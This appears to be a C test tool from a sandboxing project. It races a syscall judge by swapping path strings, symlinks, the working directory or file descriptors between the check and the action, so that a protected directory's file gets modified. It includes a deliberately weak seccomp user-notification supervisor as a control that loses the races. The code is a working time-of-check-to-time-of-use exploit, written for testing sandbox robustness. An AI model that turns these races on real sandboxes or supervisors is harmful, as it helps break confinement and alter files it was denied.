/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Races against whoever judges calls by path or descriptor: one thread asks, another swaps what was
 * looked at.
 *
 *   path-race [--control] KIND OWN FOREIGN SECONDS
 *
 * OWN and FOREIGN are directories with a file f; OWN may be changed, FOREIGN may be read only, but
 * for what guards it. Prints asked=N own=N foreign=N: how often it asked, was let, and found
 * FOREIGN changed. With --control the judge is a supervisor of ours that looks and then lets the
 * kernel do it, which loses these races: so the attack is one.
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { SWAPPED_FD = 50, OWN_FD = 51, FOREIGN_FD = 52, VICTIM_MODE = 0644, SET_MODE = 0600 };

struct race {
	const char *kind;
	const char *own, *foreign;
	char own_file[256], foreign_file[256];
	char text[PATH_MAX]; /* what is asked for; swapped underneath in one kind */
	char other[PATH_MAX];
	volatile int over;
	double seconds;
};

static void must(bool ok, const char *what)
{
	if (!ok) {
		perror(what);
		exit(99);
	}
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static bool is(const struct race *r, const char *kind)
{
	return strcmp(r->kind, kind) == 0;
}

/* ---- The two threads ---- */

static void exchange(const char *a, const char *b)
{
	syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

static void swap_text(struct race *r, bool foreign)
{
	const char *from = foreign ? r->foreign_file : r->own_file;
	volatile char *to = r->text;
	/* Both have the same length, and differ in one place at a time. */
	for (size_t i = 0; from[i]; i++)
		to[i] = from[i];
}

static void *swapper(void *data)
{
	struct race *r = data;
	for (bool foreign = true; !r->over; foreign = !foreign) {
		if (is(r, "text"))
			swap_text(r, foreign);
		else if (is(r, "cwd"))
			must(chdir(foreign ? r->foreign : r->own) == 0, "chdir");
		else
			dup2(foreign ? FOREIGN_FD : OWN_FD, SWAPPED_FD);
	}
	return NULL;
}

static void *link_swapper(void *data)
{
	struct race *r = data;
	char a[128];
	char b[128];
	snprintf(a, sizeof(a), "%s/a", r->own);
	snprintf(b, sizeof(b), "%s/b", r->own);
	while (!r->over)
		exchange(a, b);
	return NULL;
}

static int ask(struct race *r)
{
	if (is(r, "fd"))
		return fchmod(SWAPPED_FD, SET_MODE);
	if (is(r, "lock"))
		return flock(SWAPPED_FD, LOCK_EX | LOCK_NB);
	if (is(r, "rename"))
		return (int)syscall(SYS_renameat2, AT_FDCWD, r->text, AT_FDCWD, r->other, 0);
	return (int)syscall(SYS_fchmodat, AT_FDCWD, r->text, SET_MODE);
}

/* Whether FOREIGN's file is not as it was; for a lock: whether another open file can have it. */
static bool is_foreign_hit(struct race *r)
{
	struct stat st;
	if (is(r, "lock")) {
		int fd = open(r->foreign_file, O_RDONLY | O_CLOEXEC);
		bool taken = flock(fd, LOCK_SH | LOCK_NB) < 0 && errno == EWOULDBLOCK;
		close(fd);
		return taken;
	}
	return lstat(r->foreign_file, &st) < 0 || (st.st_mode & 07777) != VICTIM_MODE;
}

static void run(struct race *r)
{
	bool links = is(r, "link") || is(r, "dir") || is(r, "rename");
	unsigned long asked = 0;
	unsigned long own = 0;
	unsigned long foreign = 0;
	pthread_t thread;
	must(pthread_create(&thread, NULL, links ? link_swapper : swapper, r) == 0, "thread");
	double end = now() + r->seconds;
	while (now() < end && foreign == 0) {
		asked++;
		if (ask(r) == 0) {
			own++;
			foreign += is_foreign_hit(r);
			for (int i = 0; i < 1000 && is(r, "rename"); i++) /* back again */
				if (rename(r->other, r->own_file) == 0)
					break;
		}
		if (is(r, "lock")) {
			flock(OWN_FD, LOCK_UN);
			flock(FOREIGN_FD, LOCK_UN);
		}
	}
	r->over = 1;
	pthread_join(thread, NULL);
	printf("asked=%lu own=%lu foreign=%lu\n", asked, own - foreign, foreign);
}

static void prepare(struct race *r)
{
	char a[128];
	char b[128];
	snprintf(r->own_file, sizeof(r->own_file), "%s/f", r->own);
	snprintf(r->foreign_file, sizeof(r->foreign_file), "%s/f", r->foreign);
	snprintf(r->text, sizeof(r->text), "%s", r->own_file);
	snprintf(a, sizeof(a), "%s/a", r->own);
	snprintf(b, sizeof(b), "%s/b", r->own);
	if (is(r, "text"))
		must(strlen(r->own_file) == strlen(r->foreign_file), "names of one length");
	if (is(r, "link")) {
		must(symlink(r->own_file, a) == 0 && symlink(r->foreign_file, b) == 0, "symlink");
		snprintf(r->text, sizeof(r->text), "%s", a);
	}
	if (is(r, "dir") || is(r, "rename")) {
		must(mkdir(a, 0755) == 0 && symlink(r->foreign, b) == 0, "mkdir");
		snprintf(r->text, sizeof(r->text), "%s/f", a);
		must(rename(r->own_file, r->text) == 0, "rename");
		snprintf(r->own_file, sizeof(r->own_file), "%s/f", a);
	}
	if (is(r, "rename"))
		snprintf(r->other, sizeof(r->other), "%s2/f", r->own);
	if (is(r, "cwd"))
		snprintf(r->text, sizeof(r->text), "f");
	if (is(r, "fdpath"))
		snprintf(r->text, sizeof(r->text), "/proc/self/fd/%d", SWAPPED_FD);
	if (is(r, "fd") || is(r, "fdpath") || is(r, "lock")) {
		must(dup2(open(r->own_file, O_RDONLY), OWN_FD) >= 0, r->own_file);
		must(dup2(open(r->foreign_file, O_RDONLY), FOREIGN_FD) >= 0, r->foreign_file);
		must(dup2(OWN_FD, SWAPPED_FD) >= 0, "dup2");
	}
}

/* ---- The control: looks, and lets the kernel do it ---- */

#define TRAP(nr)                                                                                   \
	BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, nr, 0, 1),                                             \
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF)

static int install(void)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		TRAP(SYS_fchmod),
		TRAP(SYS_fchmodat),
		TRAP(SYS_flock),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = {.len = sizeof(code) / sizeof(code[0]), .filter = code};
	must(prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) == 0, "no_new_privs");
	int fd = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
			      SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
	must(fd >= 0, "seccomp");
	return fd;
}

static bool looks_own(const struct race *r, const struct seccomp_notif *req)
{
	char text[PATH_MAX] = "";
	char path[2 * PATH_MAX];
	char real[PATH_MAX];
	if (req->data.nr == SYS_fchmodat) {
		struct iovec local = {text, sizeof(text)};
		struct iovec remote = {(void *)(uintptr_t)req->data.args[1], sizeof(text)};
		if (process_vm_readv((pid_t)req->pid, &local, 1, &remote, 1, 0) <= 0)
			return false;
		text[sizeof(text) - 1] = '\0';
		if (strncmp(text, "/proc/self/", 11) == 0)
			snprintf(path, sizeof(path), "/proc/%u/%s", req->pid, text + 11);
		else if (text[0] == '/')
			snprintf(path, sizeof(path), "%s", text);
		else
			snprintf(path, sizeof(path), "/proc/%u/cwd/%s", req->pid, text);
	} else {
		snprintf(path, sizeof(path), "/proc/%u/fd/%d", req->pid, (int)req->data.args[0]);
	}
	size_t n = strlen(r->own);
	return realpath(path, real) && strncmp(real, r->own, n) == 0 && real[n] == '/';
}

static void serve(const struct race *r, int fd, pid_t child)
{
	union {
		struct seccomp_notif req;
		char space[512];
	} u;
	while (waitpid(child, NULL, WNOHANG) == 0) {
		struct pollfd p = {.fd = fd, .events = POLLIN};
		if (poll(&p, 1, 50) <= 0 || !(p.revents & POLLIN))
			continue;
		memset(&u, 0, sizeof(u));
		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &u.req) < 0)
			continue;
		struct seccomp_notif_resp resp = {.id = u.req.id};
		bool harmless = u.req.data.nr == SYS_flock && !(u.req.data.args[1] & LOCK_EX);
		if (harmless || looks_own(r, &u.req))
			resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		else
			resp.error = -EPERM;
		ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
}

static int controlled(struct race *r)
{
	int fds[2];
	int number = -1;
	must(pipe(fds) == 0, "pipe");
	pid_t child = fork();
	if (child == 0) {
		number = install();
		must(write(fds[1], &number, sizeof(number)) == sizeof(number), "write");
		run(r);
		fflush(stdout);
		_exit(0);
	}
	must(read(fds[0], &number, sizeof(number)) == sizeof(number), "read");
	int pidfd = (int)syscall(SYS_pidfd_open, child, 0);
	int fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
	must(fd >= 0, "pidfd_getfd");
	serve(r, fd, child);
	return 0;
}

int main(int argc, char **argv)
{
	bool control = argc > 1 && strcmp(argv[1], "--control") == 0;
	argv += control;
	if (argc - control != 5)
		return 2;
	struct race r = {.kind = argv[1],
			 .own = argv[2],
			 .foreign = argv[3],
			 .seconds = strtod(argv[4], NULL)};
	prepare(&r);
	if (control)
		return controlled(&r);
	run(&r);
	return 0;
}
